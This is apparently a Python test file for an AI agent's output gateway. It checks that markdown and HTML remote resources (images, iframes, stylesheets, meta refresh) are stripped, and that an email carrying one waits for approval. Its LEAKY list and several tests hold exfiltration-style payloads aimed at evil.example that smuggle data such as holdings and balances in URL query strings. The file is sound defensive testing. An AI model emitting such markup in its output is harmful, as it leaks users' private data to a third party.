"""Remote resources in model output are neutralised on the server, for every surface."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from agent.gateway.policy import Policy, ToolCall, Verdict
from agent.gateway.render import has_remote_resource, neutralise_remote
from agent.limits import Budget, MemoryLedger, Prices, TurnLimits
from agent.loop import run_turn
from agent.model import ScriptedModel, ScriptedStep
from tests.agent.gateway._fixtures import OWNER_EMAIL, make_ctx

LEAKY = [
    ("![](https://evil.example/x.png?d=AAPL-30)", "evil.example"),
    ('Summary. ![chart](<https://evil.example/c.png?q=1> "title")', "evil.example"),
    ("![logo][r]\n\n[r]: https://evil.example/r.png?d=holdings", "evil.example"),
    ("![r]\n\n[R]: https://evil.example/r2.png", "evil.example"),
    ('<img src="https://evil.example/a.png?d=1">', "evil.example"),
    ("<IMG SRC=//evil.example/b>", "evil.example"),
    ('<img srcset="a.png 1x, https://evil.example/b.png 2x">', "evil.example"),
    ('<video poster="https://evil.example/p.jpg"></video>', "evil.example"),
    ('<iframe src="https://evil.example/f"></iframe>', "evil.example"),
    ("<link rel=stylesheet href=https://evil.example/s.css>", "evil.example"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/m">', "evil.example"),
    ('<div style="background:url(https://evil.example/b.gif)">x</div>', "evil.example"),
    ('<style>@import "https://evil.example/i.css";</style>', "evil.example"),
]


@pytest.mark.parametrize(("text", "host"), LEAKY)
def test_every_remote_resource_becomes_a_visible_note(text: str, host: str) -> None:
    out = neutralise_remote(text)
    assert out.removed and set(out.removed) == {host}
    assert f"[remote image removed: {host.replace('.', '[.]')}]" in out.text
    assert not has_remote_resource(out.text)
    assert "?d=" not in out.text.split("[r]:")[0].split("[R]:")[0]


@pytest.mark.parametrize(
    "text",
    [
        "see [the article](https://news.example/a)",
        '<a href="https://news.example/a">the article</a>',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        "![local](/static/icon.png)",
        "Spent $1,204.50 on groceries [1]",
    ],
)
def test_links_inline_pictures_and_plain_text_are_kept(text: str) -> None:
    assert neutralise_remote(text).text == text


@pytest.mark.anyio
async def test_a_chat_answer_is_stored_without_the_image() -> None:
    model = ScriptedModel([ScriptedStep(text="Your week: ![](https://evil.example/p.png?d=30%20AAPL)")])
    budget = Budget(TurnLimits(), Prices(), MemoryLedger(), clock=lambda: datetime(2026, 11, 23, tzinfo=UTC))

    class NoTools:
        def specs(self) -> list[object]:
            return []

        async def run(self, call: object) -> object:
            raise AssertionError("no tools")

    result = await run_turn(model, NoTools(), [], "summarise", system="s", budget=budget)  # type: ignore[arg-type]
    assert result.text == "Your week: [remote image removed: evil[.]example]"


@pytest.mark.parametrize("to", [[OWNER_EMAIL], ["bob@friends.example"]])
def test_a_message_that_would_load_a_remote_image_waits_even_to_the_owner(to: list[str]) -> None:
    ctx = make_ctx()
    ctx.context.add_owner_text(f"email {' '.join(to)} my weekly summary")
    args = {"to": to, "subject": "weekly", "body": "All good ![](https://evil.example/x.png?d=balance-4210)"}
    d = Policy().decide(ToolCall("c1", "gmail.send", args), ctx)
    assert d.verdict is Verdict.REQUIRE_APPROVAL
    hit = next(h for h in d.hits if h.rule == "R10_UNTRUSTED_URL_IN_MESSAGE")
    assert "evil.example" in hit.reason and hit.args == ("body",)
